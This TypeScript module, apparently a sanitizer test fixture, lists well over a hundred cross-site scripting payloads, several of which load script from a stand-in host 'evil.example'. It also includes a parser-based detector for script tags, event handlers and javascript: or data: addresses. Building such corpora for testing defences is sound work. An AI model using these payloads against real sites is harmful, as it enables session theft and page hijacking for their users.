/** Ways to get a script into a page: elements, attributes, addresses, spellings that parsers read differently. And what tells that one is there. */
import { Parser } from 'htmlparser2';

const call = 'alert(1)';
const handlers =
  'onclick onerror onload onmouseover onfocus ontoggle onanimationstart onpointerenter onbegin ontransitionend'.split(' ');
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'vbscript:',
  'feed:javascript:',
  'feed:feed:javascript:',
];
const documents = [
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,x',
];

export const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<script type="module">import("//evil.example")</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<xmp><a title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="x" formaction="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type="image">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="x" style="width: expression(alert(1))">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<img src=x onerror=alert(1)',
  '<img src=x onerror=alert(1) //',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img/src=x/onerror=alert(1)>',
  "<img src='x'onerror='alert(1)'>",
  '<img title="a" src=x title="b" onerror=alert(1)>',
  '<a\u000chref="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<x onclick=alert(1)>x</x>',
  '<x-y onclick=alert(1)>x</x-y>',
  '<div a="b"onclick="alert(1)">x</div>',
  '<div/onclick="alert(1)"/class="x">x</div>',
  '<!--><script>alert(1)</script>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--- ><script>alert(1)</script> -->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!doctype html><script>alert(1)</script>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '</p onclick=alert(1)><img src=x onerror=alert(1)>',
  '<<script>alert(1)//<</script>',
  '<b <script>alert(1)</script>0',
  '<a href="x" title="> <script>alert(1)</script>">x</a>',
  `<img src=x ${'a="b" '.repeat(50)}onerror=alert(1)>`,
  '[caption width="100"]<img src=x onerror=alert(1)>" onmouseover=alert(1)[/caption]',
  '[caption width="100" align="x\\" onclick=\\"alert(1)"]<img src="x" />Cap<script>alert(1)</script>[/caption]',
  '<!-- cms:html {"content":"<script>alert(1)</script>"} --><script>alert(1)</script><!-- /cms:html -->',
  '<!-- cms:image {"alt":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} --><img src=x onerror=alert(1)><!-- /cms:image -->',
  '<!-- cms:group {"layout":{"type":"x\\" onclick=\\"alert(1)"}} --><div onclick=alert(1)>x</div><!-- /cms:group -->',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '<javascript:alert(1)>',
  ...handlers.flatMap((name) => [
    `<img src=x ${name}=${call}>`,
    `<div ${name.toUpperCase()}="${call}">x</div>`,
    `<svg ${name}='${call}'></svg>`,
    `<p a=b ${name}\n=${call}>x</p>`,
    `<a/${name}=${call}>x</a>`,
  ]),
  ...schemes.flatMap((scheme) => [
    `<a href="${scheme}${call}">x</a>`,
    `<img src='${scheme}${call}'>`,
    `<area href="${scheme}${call}">`,
    `<blockquote cite="${scheme}${call}">x</blockquote>`,
    `<object data="${scheme}${call}" type="application/pdf"></object>`,
  ]),
  ...documents.flatMap((address) => [
    `<a href='${address}'>x</a>`,
    `<iframe src='${address}'></iframe>`,
    `<object data='${address}'></object>`,
    `<embed src='${address}'>`,
  ]),
];

/** Addresses that run something where one is expected. */
export const activeAddresses: readonly string[] = [...schemes.map((scheme) => `${scheme}${call}`), ...documents];

/** What a browser would run of a text that a front end puts into a page. */
export function runs(html: string): string[] {
  const found: string[] = [];
  if (isRunning(html)) found.push(html);
  const parser = new Parser({
    onopentag(name, attributes) {
      if (name === 'script' && attributes.type !== 'application/ld+json') found.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on[a-z]/.test(key) || key === 'srcdoc' || isRunning(value)) found.push(`${name} ${key}=${value}`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return found;
}

/** Whether an address runs something. */
export const isRunning = (address: string): boolean =>
  /^(?:javascript:|vbscript:|data:text\/html|data:image\/svg)/.test(address.replace(/[\s\p{C}]/gu, '').toLowerCase());
